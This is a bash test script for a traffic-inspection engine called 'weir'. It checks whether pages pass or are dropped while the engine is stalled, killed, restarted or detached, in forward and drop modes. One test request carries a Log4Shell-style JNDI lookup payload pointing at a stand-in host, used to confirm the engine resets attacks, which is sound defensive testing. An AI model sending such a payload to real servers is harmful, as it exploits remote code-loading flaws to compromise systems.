#!/usr/bin/env bash
# A link without its engine does what the operator said, whether the engine was killed or stalls.
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

# answers: the client gets a page. Short, since a link that fails closed is silent.
answers() {
    fetch "$dir/got" "http://$server_v4/page.txt" --max-time 2
    cmp -s "$dir/got" "$dir/site/pages/page.txt"
}

# is_inspected: an attack is reset.
is_inspected() {
    fetch "$dir/got" "http://$server_v4/?x=\${jndi:ldap://evil.example/a}"
    [[ $curl_exit -eq 56 ]]
}

# loss WORD CHECK: what a request meets while the engine stalls, is gone, and is back.
loss() {
    local word=$1 expected=$2
    engine_write_config "$dir/weir.toml" "$dir/eve.json" "$word"
    lab_start_engine case-loss
    check "$word: the engine inspects" is_inspected
    check "$word: a page passes" answers
    kill -STOP "$engine_pid"
    # Longer than the age at which a heartbeat counts as lost (500 ms).
    sleep 0.8
    "$expected" "$word: engine stalled" answers
    kill -CONT "$engine_pid"
    check "$word: an engine that goes on inspects" eventually is_inspected
    engine_end KILL
    check "$word: the program outlives the engine" lab_has_xdp
    sleep 0.3
    "$expected" "$word: engine killed" answers
    lab_start_engine case-loss
    check "$word: a new engine inspects" is_inspected
    check "$word: a page passes again" answers
    engine_end KILL
    check "$word: weir detach succeeds" engine_detach
    check_not "$word: nothing is attached" lab_has_xdp
    "$expected" "$word: without the program" answers
    lab_start_engine case-loss
    engine_end TERM
    check_not "$word: a clean end leaves nothing attached" lab_has_xdp
    "$expected" "$word: after a clean end" answers
}

# eventually COMMAND...: a stalled engine needs a moment until its heart beats again.
eventually() {
    local _
    for _ in {1..20}; do
        ! "$@" || return 0
        sleep 0.1
    done
    return 1
}

if obstacle=$(lab_obstacle); then skip case-loss "$obstacle"; fi
lab_open loss
lab_up "weir-loss-$$"
lab_mount_bpffs
site_up "$dir/site"
text_of 5000 >"$dir/site/pages/page.txt"
loss forward check
loss drop check_not
checks_close
